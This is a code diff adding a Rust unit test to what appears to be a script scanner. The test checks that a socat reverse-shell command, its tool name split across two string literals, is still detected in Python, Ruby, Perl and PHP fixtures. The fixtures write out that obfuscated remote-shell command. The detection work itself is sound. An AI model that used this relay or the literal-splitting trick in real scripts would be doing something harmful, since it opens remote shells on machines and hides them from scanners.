@@ -102,3 +102,51 @@ fn joined_literals_are_found_through_the_prefilter() {
         &[(1, "x = 'a' + b"), (2, "y = c + 'd'")]
     ));
 }
+
+#[test]
+fn a_join_alone_keeps_a_file_in() {
+    use crate::inspect::command::code::code_lines;
+    use crate::inspect::script::{analyze_file, analyze_unfiltered};
+    let cat = catalog::get();
+    // A tool's name split in two literals (`'so' + 'cat …'`) and nothing
+    // else the file gate looks for: no `://`, no call that runs text, no
+    // base64 hint, no literal of any rule. Only `joins_literals` keeps
+    // these files in; without it the relay command goes unseen.
+    let cases: [(&str, RuleLang, &str); 4] = [
+        (
+            "python",
+            RuleLang::Python,
+            "import sys\nhost = sys.argv[1]\nrelay = 'so' + 'cat TCP:' + host + ':4444 EXEC:/bin/bash'\nprint(relay)\n",
+        ),
+        (
+            "ruby",
+            RuleLang::Ruby,
+            "host = ARGV[0]\nrelay = 'so' + 'cat TCP:' + host + ':4444 EXEC:/bin/bash'\nputs relay\n",
+        ),
+        (
+            "perl",
+            RuleLang::Perl,
+            "my $host = shift;\nmy $relay = 'so' . 'cat TCP:' . $host . ':4444 EXEC:/bin/bash';\nprint $relay;\n",
+        ),
+        (
+            "php",
+            RuleLang::Php,
+            "<?php\n$host = $argv[1];\n$relay = 'so' . 'cat TCP:' . $host . ':4444 EXEC:/bin/bash';\nprint $relay;\n",
+        ),
+    ];
+    for (lang, rule_lang, text) in cases {
+        let lines = code_lines(rule_lang, text);
+        assert!(joins_literals(rule_lang, &lines), "{lang}: {text}");
+        let full = analyze_unfiltered(cat, lang, text.as_bytes(), false);
+        let ids: Vec<&str> = (full.hits.iter())
+            .map(|h| cat.rules[h.rule].id.as_str())
+            .collect();
+        assert_eq!(
+            ids,
+            ["socat-addresses"],
+            "{lang}: the joined command is found"
+        );
+        let filtered = analyze_file(cat, lang, text.as_bytes(), false);
+        assert_eq!(filtered, full, "{lang}: {text}");
+    }
+}
